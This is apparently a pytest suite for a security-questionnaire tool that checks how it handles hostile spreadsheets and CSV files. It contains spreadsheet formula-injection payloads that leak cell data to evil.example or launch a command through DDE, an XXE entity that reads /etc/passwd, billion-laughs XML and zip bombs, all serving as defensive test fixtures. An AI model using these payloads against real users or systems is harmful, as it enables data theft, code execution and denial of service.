"""Customer questionnaires are hostile: nothing in them runs, no limit is passed, every failure is a located error."""

from __future__ import annotations

import codecs
import csv
import io
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from trustdocs.cli import main
from trustdocs.questionnaire.formulas import csv_field, external_calls, set_text
from trustdocs.questionnaire.limits import MAX_INFLATED_BYTES

MINIMAL = Path(__file__).parent / "data" / "minimal.yaml"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "#N/A",
]


def run(*args: str | Path) -> Any:
    return CliRunner().invoke(main, ["answer", *map(str, args)], prog_name="trustdocs")


def no_traceback(result: Any) -> None:
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output


def formula_parts(path: Path) -> list[str]:
    """Every <f> element in the package: the formulas Excel would compute on opening."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist() if re.search(rb"<f[ >]", archive.read(name))]


def injection_csv(path: Path) -> Path:
    rows = [["Ref", "Question", "Notes"], ["Q1", "Is customer data encrypted at rest?", INJECTIONS[0]]]
    rows += [[f"Q{n}", value, value] for n, value in enumerate(INJECTIONS[1:], start=2)]
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


# 1. Formulas ---------------------------------------------------------------------------------------------------


def test_csv_cells_become_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "filled.xlsx"
    result = run(MINIMAL, injection_csv(tmp_path / "theirs.csv"), "-o", out)
    assert result.exit_code == 0, result.output
    assert formula_parts(out) == []
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet["C"]][1:] == INJECTIONS
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    assert all(c.quotePrefix for c in sheet["C"][1:] if c.value != "#N/A")
    assert sheet["D2"].value == "Yes"


def test_a_formula_in_their_workbook_is_kept_not_matched_and_external_calls_are_warned(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Security"
    sheet.append(["Question", "Response"])
    sheet.append(["Is customer data encrypted at rest?", None])
    sheet.append(['="Do you support SAML SSO?"', None])
    sheet.append(["Do you have a formal incident response plan?", '=WEBSERVICE("http://evil.example/"&A2)'])
    sheet.append(["Is MFA enforced?", "=cmd|' /C calc'!A0"])
    sheet["D1"] = '=HYPERLINK("http://evil.example","HYPERLINK(")'
    sheet["E1"] = '=CONCAT("WEBSERVICE(", "|")'  # only mentions them, inside strings
    workbook.save(tmp_path / "theirs.xlsx")
    out = tmp_path / "filled.xlsx"
    result = run(MINIMAL, tmp_path / "theirs.xlsx", "-o", out)
    assert result.exit_code == 0, result.output
    theirs = tmp_path / "theirs.xlsx"
    assert result.stderr == (
        f"{theirs}: Security!D1: warning: the formula calls HYPERLINK, which can reach outside the workbook "
        "when it is opened; kept as it was, not answered\n"
        f"{theirs}: Security!B4: warning: the formula calls WEBSERVICE, which can reach outside the workbook "
        "when it is opened; kept as it was, not answered\n"
        f"{theirs}: Security!B5: warning: the formula calls DDE, which can reach outside the workbook "
        "when it is opened; kept as it was, not answered\n"
    )
    assert result.stdout.splitlines()[0] == (
        "Customer questionnaire: 3 question(s) on 1 sheet(s) (Security): 2 answered, 0 flagged for review, "
        "1 unanswered."
    )
    assert (
        "3 of their formula(s) can reach outside the workbook, kept as they were (see the warnings).\n" in result.stdout
    )
    filled = openpyxl.load_workbook(out)["Security"]
    assert filled["A3"].value == '="Do you support SAML SSO?"' and filled["A3"].data_type == "f"
    assert filled["B4"].value == '=WEBSERVICE("http://evil.example/"&A2)'
    assert filled["F3"].value is None  # the formula row got no answer
    assert filled["F2"].value == "Yes"


@pytest.mark.parametrize(
    ("formula", "calls"),
    [
        ('=HYPERLINK("http://x")', ("HYPERLINK",)),
        ("=_xlfn.WEBSERVICE(A1)", ("WEBSERVICE",)),
        ('=FILTERXML(WEBSERVICE(A1),"//a")', ("FILTERXML", "WEBSERVICE")),
        ('=IMPORTXML(A1, "//a")', ("IMPORTXML",)),
        ("=importdata(A1)", ("IMPORTDATA",)),
        ('=RTD("prog.id",,"x")', ("RTD",)),
        ('=CALL("kernel32","WinExec","JCJ","calc",0)', ("CALL",)),
        ('=REGISTER.ID("kernel32","WinExec")', ("REGISTER.ID",)),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0", ("DDE",)),
        ("='C:\\[budget.xlsx]Sheet1'!A1+[1]Sheet1!B2", ("another workbook",)),
        ('="HYPERLINK(" & "WEBSERVICE(x)"', ()),
        ("=SUM(A1:A3)", ()),
        ("=MYHYPERLINK(A1)", ()),
    ],
)
def test_external_calls(formula: str, calls: tuple[str, ...]) -> None:
    assert external_calls(formula) == calls


def test_answers_that_look_like_formulas_are_written_as_text() -> None:
    cell = openpyxl.Workbook().active["A1"]
    set_text(cell, "=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    set_text(cell, "Yes")
    assert (cell.data_type, cell.quotePrefix) == ("s", False)
    assert csv_field("=1+1") == "'=1+1"
    assert [csv_field(v) for v in ("+1", "-1", "@x", "\tx", "\rx", "a=b", "", None, 3, 0.5)] == [
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "a=b",
        "",
        "",
        "3",
        "0.5",
    ]


# 2. Hostile packages --------------------------------------------------------------------------------------------


def plain_workbook(path: Path) -> Path:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Question"])
    workbook.active.append(["Is customer data encrypted at rest?"])
    workbook.save(path)
    return path


def with_part(source: Path, target: Path, name: str, data: bytes, *, level: int = 6) -> Path:
    """A copy of the workbook at `source` with the part `name` replaced (or added)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as new:
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info, old.read(info.filename))
        new.writestr(name, data)
    return target


SHEET = "xl/worksheets/sheet1.xml"
XXE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    b'<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
)
LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
    + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
DTD_MESSAGE = (
    "declares a DTD or entities (<!DOCTYPE, <!ENTITY), which can expand without end or read local files; "
    "the file is refused"
)


@pytest.mark.parametrize(
    ("part", "data"),
    [
        (SHEET, XXE),
        (SHEET, LAUGHS),
        ("xl/workbook.xml", LAUGHS),
        (SHEET, XXE.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
        ("docProps/custom.xml", XXE),
    ],
    ids=["xxe", "billion-laughs", "laughs-in-workbook", "utf-16", "any-part"],
)
def test_a_dtd_in_any_part_is_refused_before_parsing(tmp_path: Path, part: str, data: bytes) -> None:
    theirs = with_part(plain_workbook(tmp_path / "plain.xlsx"), tmp_path / "theirs.xlsx", part, data)
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == f"{theirs}: {part}: {DTD_MESSAGE}\ntrustdocs: 1 error\n"
    assert not (tmp_path / "out.xlsx").exists()


def test_openpyxl_parses_through_defusedxml() -> None:
    # Behind the package check: were a DTD to get through, openpyxl would refuse its entities too.
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """About 1 MB that inflates to 1 GiB: a workbook with one part of zeros."""
    folder = tmp_path_factory.mktemp("bomb")
    path = plain_workbook(folder / "plain.xlsx")
    target = folder / "bomb.xlsx"
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as new:
        for info in old.infolist():
            new.writestr(info, old.read(info.filename))
        with new.open("xl/media/image1.bin", "w") as stream:
            block = bytes(1 << 20)
            for _ in range(1024):
                stream.write(block)
    return target


def test_a_zip_bomb_is_refused_by_its_declared_size(bomb: Path, tmp_path: Path) -> None:
    assert bomb.stat().st_size < 2_000_000
    result = run(MINIMAL, bomb, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    declared = sum(i.file_size for i in zipfile.ZipFile(bomb).infolist())
    assert result.stderr == (
        f"Error: {bomb}: the package declares {declared:,} bytes once inflated; a "
        f"questionnaire may inflate to at most {MAX_INFLATED_BYTES:,}\n"
    )


def test_a_zip_bomb_that_lies_about_its_size_is_refused_once_inflated(bomb: Path, tmp_path: Path) -> None:
    # Rewrite the declared size of the big part, in its local header and the central directory, to 1,000 bytes.
    data = bytearray(bomb.read_bytes())
    info = zipfile.ZipFile(bomb).getinfo("xl/media/image1.bin")
    data[info.header_offset + 22 : info.header_offset + 26] = (1000).to_bytes(4, "little")
    central = data.index(b"PK\x01\x02")
    while not data[central + 46 :].startswith(b"xl/media/image1.bin"):
        central = data.index(b"PK\x01\x02", central + 4)
    data[central + 24 : central + 28] = (1000).to_bytes(4, "little")
    liar = tmp_path / "liar.xlsx"
    liar.write_bytes(bytes(data))
    assert zipfile.ZipFile(liar).getinfo("xl/media/image1.bin").file_size == 1000 != info.file_size
    result = run(MINIMAL, liar, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == (
        f"{liar}: xl/media/image1.bin: damaged (Bad CRC-32 for file 'xl/media/image1.bin')\ntrustdocs: 1 error\n"
    )


def sheet_xml(rows: int, columns: int = 1) -> bytes:
    cells = "".join('<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(columns))
    body = "".join(f'<row r="{n}">{cells}</row>' for n in range(1, rows + 1))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>'
    ).encode()


def test_a_sheet_of_200000_rows_is_refused_without_loading_it(tmp_path: Path) -> None:
    theirs = with_part(plain_workbook(tmp_path / "plain.xlsx"), tmp_path / "theirs.xlsx", SHEET, sheet_xml(200_000))
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == (
        f"{theirs}: {SHEET}: more than 20,000 rows; a questionnaire sheet may have at most 20,000\ntrustdocs: 1 error\n"
    )


def test_too_many_cells_and_too_many_columns_are_refused(tmp_path: Path) -> None:
    plain = plain_workbook(tmp_path / "plain.xlsx")
    many = with_part(plain, tmp_path / "many.xlsx", SHEET, sheet_xml(1_001, 1_000))
    result = run(MINIMAL, many, "-o", tmp_path / "out.xlsx")
    assert result.exit_code == 1
    assert result.stderr == (
        f"{many}: {SHEET}: more than 1,000,000 cells, counting each cell of a merged range; a "
        "questionnaire may have at most 1,000,000\ntrustdocs: 1 error\n"
    )
    wide = with_part(plain, tmp_path / "wide.xlsx", SHEET, sheet_xml(1, 20_001))
    result = run(MINIMAL, wide, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == (
        f"{wide}: sheet 'Sheet': 20,001 columns; a questionnaire sheet may have at most 1,000\ntrustdocs: 1 error\n"
    )


def test_xml_that_openpyxl_cannot_read_is_an_error(tmp_path: Path) -> None:
    theirs = with_part(
        plain_workbook(tmp_path / "plain.xlsx"),
        tmp_path / "theirs.xlsx",
        SHEET,
        b"<worksheet><sheetData><row r='x'><c r='!!'><v>1</v></c>",
    )
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {theirs}: could not read the workbook (")


# 3. Hostile CSV -------------------------------------------------------------------------------------------------


def test_excel_unicode_text_is_read(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs.txt.csv"
    text = "Ref\tQuestion\tNotes\r\nQ1\tIs customer data encrypted at rest?\tdonn\u00e9es, \u2014 \u6f22\r\n"
    theirs.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    out = tmp_path / "filled.xlsx"
    result = run(MINIMAL, theirs, "-o", out)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet[2]][:4] == [
        "Q1",
        "Is customer data encrypted at rest?",
        "donn\u00e9es, \u2014 \u6f22",
        "Yes",
    ]


@pytest.mark.parametrize(
    ("content", "errors"),
    [
        (
            "Question,Notes\nIs data encrypted?,a\x07b\n",
            [
                "2:2: the cell holds the control character U+0007, which a "
                "spreadsheet cell cannot hold (is this a text file?)"
            ],
        ),
        (
            "Question\nIs data\x00 encrypted?\nIs MFA on?\x1b[2J\n",
            [
                "2:1: the cell holds the control character U+0000, which a spreadsheet cell cannot hold (is this a text "
                "file?)",
                "3:1: the cell holds the control character U+001B, which a spreadsheet cell cannot hold (is this a text "
                "file?)",
            ],
        ),
        (
            "Question,Notes\nIs data encrypted?," + "x" * 200_000 + "\n",
            ["2:2: the cell holds 200,000 characters; a spreadsheet cell holds at most 32,767"],
        ),
        ("Question" + ",x" * 20_000 + "\n", ["1:1001: 20,001 columns; a questionnaire may have at most 1,000"]),
        (
            "Question\n" + "Is it?\n" * 20_001,
            ["20001:1: more than 20,000 rows; a questionnaire may have at most 20,000"],
        ),
    ],
    ids=["bell", "nul-and-ansi", "200kB-cell", "20001-columns", "20001-rows"],
)
def test_cells_a_workbook_cannot_hold_are_located_errors(tmp_path: Path, content: str, errors: list[str]) -> None:
    theirs = tmp_path / "theirs.csv"
    theirs.write_text(content, encoding="utf-8", newline="")
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    count = f"{len(errors)} error{'s' if len(errors) != 1 else ''}"
    assert result.stderr.splitlines() == [f"{theirs}:{e}" for e in errors] + [f"trustdocs: {count}"]
    assert not (tmp_path / "out.xlsx").exists()


def test_binary_garbage_is_a_short_list_of_located_errors(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs.csv"
    theirs.write_bytes(bytes(range(256)) * 64)
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 22
    assert lines[0] == (
        f"{theirs}:1:1: the cell holds the control character U+0000, which a spreadsheet cell "
        "cannot hold (is this a text file?)"
    )
    assert all(re.match(re.escape(str(theirs)) + r":\d+:\d+: ", line) for line in lines[:20])
    assert re.fullmatch(r"[\d,]+ more problem\(s\) like these not listed", lines[20])
    assert lines[21] == "trustdocs: 21 errors"


def test_utf16_that_breaks_off_is_a_located_error(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs.csv"
    theirs.write_bytes(codecs.BOM_UTF16_LE + "Question\nIs it?\n".encode("utf-16-le") + b"\x00\xd8")
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.stderr == (
        f"{theirs}:3:1: not valid UTF-16 text, though the file starts with its byte-order mark\ntrustdocs: 1 error\n"
    )


# 4. CSV output --------------------------------------------------------------------------------------------------


def test_csv_output_quotes_every_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
    out = tmp_path / "filled.csv"
    result = run(MINIMAL, injection_csv(tmp_path / "theirs.csv"), "-o", out)
    assert result.exit_code == 0, result.output
    assert result.stdout.endswith(f"Wrote {out}\n")
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "Ref",
        "Question",
        "Notes",
        "Answer",
        "Detail",
    ]
    assert rows[1][:4] == ["Q1", "Is customer data encrypted at rest?", "'" + INJECTIONS[0], "Yes"]
    assert [r[2] for r in rows[2:]] == ["'" + v if v[0] in "=+-@" else v for v in INJECTIONS[1:]]
    assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for field in row)


def test_csv_output_of_their_workbook_quotes_their_formulas(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Question", "Score"])
    workbook.active.append(["Is customer data encrypted at rest?", "=1+1"])
    workbook.active.append(["Do you support SAML SSO?", -3])
    workbook.save(tmp_path / "theirs.xlsx")
    out = tmp_path / "filled.csv"
    assert run(MINIMAL, tmp_path / "theirs.xlsx", "-o", out).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    assert [r[:3] for r in rows] == [
        ["Question", "Score", "Answer"],
        ["Is customer data encrypted at rest?", "'=1+1", "Yes"],
        ["Do you support SAML SSO?", "-3", "No"],
    ]


def test_csv_output_needs_a_single_sheet_of_questions(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    for title in ("One", "Two"):
        sheet = workbook.create_sheet(title)
        sheet.append(["Question"])
        sheet.append(["Is customer data encrypted at rest?"])
    workbook.save(tmp_path / "theirs.xlsx")
    result = run(MINIMAL, tmp_path / "theirs.xlsx", "-o", tmp_path / "filled.csv")
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {tmp_path / 'theirs.xlsx'}: 2 sheets have questions (One, Two) and a CSV "
        "file holds one; write .xlsx instead\n"
    )
    assert not (tmp_path / "filled.csv").exists()


def sheet_with(body: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<x:worksheet xmlns:x="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><x:sheetData>{body}</x:sheetData>{""}</x:worksheet>'
    ).encode()


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>Question</x:t></x:is></x:c></x:row></x:sheetData>'
            '<x:mergeCells count="1"><x:mergeCell ref="B2:XFD1048576"/></x:mergeCells><x:sheetData>',
            "more than 1,000,000 cells, counting each cell of a merged range; a questionnaire may have at most 1,000,000",
        ),
        (
            '<x:row r="1048576"><x:c r="A1048576"><x:v>1</x:v></x:c></x:row>',
            "more than 20,000 rows; a questionnaire sheet may have at most 20,000",
        ),
        (
            '<x:row r="1"><x:c r="XFD1"><x:v>1</x:v></x:c></x:row>',
            "a cell in column XFD, past column 1,000; a questionnaire sheet may have at most 1,000 columns",
        ),
    ],
    ids=["merged-range", "last-row", "last-column"],
)
def test_what_openpyxl_would_spread_over_memory_is_refused_first(tmp_path: Path, body: str, message: str) -> None:
    theirs = with_part(plain_workbook(tmp_path / "plain.xlsx"), tmp_path / "theirs.xlsx", SHEET, sheet_with(body))
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == f"{theirs}: {SHEET}: {message}\ntrustdocs: 1 error\n"


def test_every_part_that_parses_as_xml_is_checked_whatever_its_name(tmp_path: Path) -> None:
    # openpyxl follows the package's relationships, so a sheet may hide under an image's name.
    theirs = with_part(plain_workbook(tmp_path / "plain.xlsx"), tmp_path / "theirs.xlsx", "xl/media/logo.png", LAUGHS)
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    assert result.stderr == f"{theirs}: xl/media/logo.png: {DTD_MESSAGE}\ntrustdocs: 1 error\n"


def test_binary_parts_are_only_measured(tmp_path: Path) -> None:
    theirs = with_part(
        plain_workbook(tmp_path / "plain.xlsx"),
        tmp_path / "theirs.xlsx",
        "xl/media/logo.png",
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100,
    )
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_its_byte_order_mark_is_read(tmp_path: Path, encoding: str) -> None:
    theirs = tmp_path / "theirs.csv"
    theirs.write_bytes("Question\tNotes\nIs customer data encrypted at rest?\tnone\n".encode(encoding))
    out = tmp_path / "filled.xlsx"
    assert run(MINIMAL, theirs, "-o", out).exit_code == 0
    assert [c.value for c in openpyxl.load_workbook(out).active[2]][:3] == [
        "Is customer data encrypted at rest?",
        "none",
        "Yes",
    ]


def test_files_that_are_no_csv_text_are_refused_before_reading(tmp_path: Path) -> None:
    renamed = tmp_path / "renamed.csv"
    renamed.write_bytes(plain_workbook(tmp_path / "plain.xlsx").read_bytes())
    result = run(MINIMAL, renamed, "-o", tmp_path / "out.xlsx")
    assert result.stderr == (
        f"Error: {renamed}: this is a zip file, such as an .xlsx workbook, not CSV text; give it its own extension\n"
    )
    endless = tmp_path / "endless.csv"
    endless.symlink_to("/dev/zero")
    result = run(MINIMAL, endless, "-o", tmp_path / "out.xlsx")
    assert (result.exit_code, result.stderr) == (1, f"Error: {endless}: not a regular file\n")
    fifo = tmp_path / "fifo.xlsx"
    os.mkfifo(fifo)
    result = run(MINIMAL, fifo, "-o", tmp_path / "out.xlsx")
    assert (result.exit_code, result.stderr) == (1, f"Error: {fifo}: not a regular file\n")


@pytest.mark.parametrize("suffix", [".xltm", ".xlsb", ".xls", ".xlam"])
def test_binary_workbooks_and_macros_that_cannot_be_kept_are_refused_with_a_way_out(
    tmp_path: Path, suffix: str
) -> None:
    theirs = tmp_path / f"theirs{suffix}"
    theirs.write_bytes(b"anything")
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {theirs}: {suffix} workbooks are not read, since they are in a binary format or carry "
        "macros that could not be kept; save it as .xlsx (Excel Workbook), .xlsm or .csv and answer that\n"
    )


@pytest.mark.parametrize("data", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
def test_behind_the_package_check_openpyxl_refuses_entities_in_one_line(
    tmp_path: Path, data: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    import trustdocs.questionnaire.their_xlsx as their_xlsx

    monkeypatch.setattr(their_xlsx, "check_package", lambda path: None)
    theirs = with_part(plain_workbook(tmp_path / "plain.xlsx"), tmp_path / "theirs.xlsx", SHEET, data)
    result = run(MINIMAL, theirs, "-o", tmp_path / "out.xlsx")
    no_traceback(result)
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1
    assert result.stderr.startswith(
        f"Error: {theirs}: could not read the workbook (ValueError: Unable to read "
        "workbook: could not read worksheets from"
    )
    assert "passwd" not in result.stderr and "lollollol" not in result.stderr


def test_the_answer_library_never_writes_a_formula(tmp_path: Path) -> None:
    from trustdocs.questionnaire import load_bank
    from trustdocs.questionnaire.derive import Answer
    from trustdocs.questionnaire.library import AnsweredQuestion
    from trustdocs.questionnaire.workbook import library_csv, library_xlsx

    question = load_bank().questions[0]
    answers = (AnsweredQuestion(question, Answer("Yes", '=HYPERLINK("http://evil.example","see")', "-1 @ref")),)
    out = tmp_path / "library.xlsx"
    out.write_bytes(library_xlsx(answers))
    assert formula_parts(out) == []
    assert [c.value for c in openpyxl.load_workbook(out).active[2]][4:] == [
        '=HYPERLINK("http://evil.example","see")',
        "-1 @ref",
    ]
    rows = list(csv.reader(io.StringIO(library_csv(answers).decode("utf-8-sig"), newline="")))
    assert rows[1][4:] == ['\'=HYPERLINK("http://evil.example","see")', "'-1 @ref"]


def test_excel_sep_line_and_a_title_line_above_a_tab_separated_header(tmp_path: Path) -> None:
    hinted = tmp_path / "hinted.csv"
    hinted.write_text("sep=;\nQuestion;Notes\nIs customer data encrypted at rest?;a, b\n", encoding="utf-8")
    titled = tmp_path / "titled.csv"
    titled.write_text(
        "Vendor questionnaire\nQuestion\tNotes\nIs customer data encrypted at rest?\ta, b, c\n", encoding="utf-8"
    )
    for theirs, first in ((hinted, ["Question", "Notes"]), (titled, ["Vendor questionnaire", None])):
        out = tmp_path / f"{theirs.stem}.xlsx"
        assert run(MINIMAL, theirs, "-o", out).exit_code == 0
        rows = [[c.value for c in row] for row in openpyxl.load_workbook(out).active.iter_rows()]
        assert rows[0][:2] == first
        assert rows[-1][:3] == ["Is customer data encrypted at rest?", rows[-1][1], "Yes"]
        assert rows[-1][1] in ("a, b", "a, b, c")
